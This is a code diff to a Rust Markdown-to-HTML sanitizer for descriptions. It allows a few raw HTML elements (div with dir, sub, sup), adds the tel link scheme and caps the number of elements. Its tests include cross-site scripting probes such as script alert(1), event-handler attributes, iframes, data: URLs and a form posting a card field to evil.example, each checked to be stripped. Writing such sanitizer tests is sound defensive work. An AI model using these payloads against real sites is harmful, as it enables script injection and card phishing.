@@ -7,13 +7,15 @@ use pulldown_cmark::{Event, Options, Parser, html::push_html};
 const MAX_DEPTH: usize = 24;
 /// Parts of a text: more than the longest description has letters, twice. Only the cells that a row of a table lacks are more.
 const MAX_PARTS: usize = 40_000;
+/// Elements written out, for what Markdown has no mark for. Those beyond are shown as they are written.
+const MAX_ELEMENTS: usize = 400;
 
-/// A description as safe HTML: Markdown without raw HTML, pictures or scripts; links lead out with `nofollow`. What is nested
-/// too deeply is shown where the depth ends.
+/// A description as safe HTML: Markdown with the few elements it has no mark for, without pictures or scripts; links lead
+/// out with `nofollow`. What is nested too deeply is shown where the depth ends.
 pub fn description_html(markdown: &str) -> String {
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
     let mut html = String::new();
-    push_html(&mut html, bounded(Parser::new_ext(markdown, options)).filter(|event| !is_raw(event)));
+    push_html(&mut html, bounded(Parser::new_ext(markdown, options)));
     let tags: HashSet<&str> = [
         "a",
         "b",
@@ -21,6 +23,7 @@ pub fn description_html(markdown: &str) -> String {
         "br",
         "code",
         "del",
+        "div",
         "em",
         "h2",
         "h3",
@@ -31,6 +34,8 @@ pub fn description_html(markdown: &str) -> String {
         "p",
         "pre",
         "strong",
+        "sub",
+        "sup",
         "table",
         "tbody",
         "td",
@@ -43,21 +48,18 @@ pub fn description_html(markdown: &str) -> String {
     ammonia::Builder::new()
         .tags(tags)
         .generic_attributes(HashSet::new())
-        .tag_attributes([("a", ["href"].into()), ("ol", ["start"].into())].into())
-        .url_schemes(["http", "https", "mailto"].into())
+        .tag_attributes([("a", ["href"].into()), ("ol", ["start"].into()), ("div", HashSet::new())].into())
+        .tag_attribute_values([("div", [("dir", ["ltr", "rtl"].into())].into())].into())
+        .url_schemes(["http", "https", "mailto", "tel"].into())
         .link_rel(Some("nofollow noopener"))
         .clean(&html)
         .to_string()
 }
 
-fn is_raw(event: &Event<'_>) -> bool {
-    matches!(event, Event::Html(_) | Event::InlineHtml(_))
-}
-
 /// A text without the shells beyond its depth; what stands in them stays.
 fn bounded<'t>(events: impl Iterator<Item = Event<'t>>) -> impl Iterator<Item = Event<'t>> {
-    let mut depth = 0_usize;
-    events.take(MAX_PARTS).filter(move |event| match event {
+    let (mut depth, mut elements) = (0_usize, 0_usize);
+    let shallow = events.take(MAX_PARTS).filter(move |event| match event {
         Event::Start(_) => {
             depth += 1;
             depth <= MAX_DEPTH
@@ -67,6 +69,20 @@ fn bounded<'t>(events: impl Iterator<Item = Event<'t>>) -> impl Iterator<Item = 
             depth < MAX_DEPTH
         }
         _ => true,
+    });
+    shallow.map(move |event| match event {
+        Event::Html(text) | Event::InlineHtml(text) if elements + text.matches('<').count() > MAX_ELEMENTS => {
+            Event::Text(text)
+        }
+        Event::Html(text) => {
+            elements += text.matches('<').count();
+            Event::Html(text)
+        }
+        Event::InlineHtml(text) => {
+            elements += text.matches('<').count();
+            Event::InlineHtml(text)
+        }
+        event => event,
     })
 }
 
@@ -83,6 +99,9 @@ mod tests {
         let lists: String = (0..150).map(|depth| format!("{}- x\n", "  ".repeat(depth))).collect();
         let html = description_html(&lists);
         assert!(html.matches("<ul>").count() <= MAX_DEPTH && html.matches('x').count() == 150, "{html}");
+        let elements = format!("{}deep", "<b><sup>".repeat(2_000));
+        let html = description_html(&elements);
+        assert!(html.matches("<sup>").count() <= MAX_ELEMENTS && html.contains("deep"), "{html:.200}");
         // each row has all cells that the first one has, written or not
         let table = format!("{}|\n{}|\n{}", "|a".repeat(2_000), "|-".repeat(2_000), "|b|\n".repeat(2_500));
         let html = description_html(&table);
@@ -95,6 +114,20 @@ mod tests {
     }
 
     #[test]
+    fn what_markdown_has_no_mark_for_is_an_element() {
+        assert_eq!(
+            description_html("<strong>Note:</strong>10 m<sup>2</sup>"),
+            "<p><strong>Note:</strong>10 m<sup>2</sup></p>\n"
+        );
+        let directed = description_html("<div dir=\"rtl\">\n\nשלום **עולם**\n\n</div>");
+        assert!(
+            directed.contains("<div dir=\"rtl\">") && directed.contains("<strong>עולם</strong>"),
+            "{directed}"
+        );
+        assert!(description_html("[call](tel:+15550100)").contains("href=\"tel:+15550100\""));
+    }
+
+    #[test]
     fn nothing_of_what_could_harm_is_left() {
         for (markdown, never) in [
             ("<script>alert(1)</script>", "script"),
@@ -104,6 +137,11 @@ mod tests {
             ("[click](data:text/html,x)", "data:"),
             ("<a href=\"https://x.example\" onclick=\"y()\">x</a>", "onclick"),
             ("<iframe src=//x></iframe>", "iframe"),
+            ("<div dir=\"rtl\" style=\"position:fixed\" class=\"x\">x</div>", "style"),
+            ("<div dir=\"x\">x</div>", "dir"),
+            ("<style>p{display:none}</style>", "display"),
+            ("<strong onmouseover=alert(1)>x</strong>", "onmouseover"),
+            ("<form action=https://evil.example><input name=card></form>", "form"),
         ] {
             let html = description_html(markdown);
             assert!(!html.contains(never), "{markdown} became {html}");
